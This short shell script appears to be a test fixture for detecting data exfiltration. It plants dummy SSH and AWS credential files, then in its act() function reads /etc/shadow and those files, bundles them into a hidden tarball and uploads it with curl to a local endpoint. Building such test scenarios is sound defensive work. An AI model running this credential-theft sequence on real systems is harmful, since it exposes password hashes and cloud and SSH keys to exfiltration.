# Passwords, a key and a cloud credential are read, packed and sent.
prepare() {
    mkdir -p /home/ana/.ssh /home/ana/.aws
    echo key >/home/ana/.ssh/id_rsa
    echo key >/home/ana/.aws/credentials
}
act() {
    cat /etc/shadow /home/ana/.ssh/id_rsa /home/ana/.aws/credentials >/tmp/.part
    tar czf /tmp/part.tgz -C /tmp .part
    curl -s -T /tmp/part.tgz http://127.0.0.1/up
}
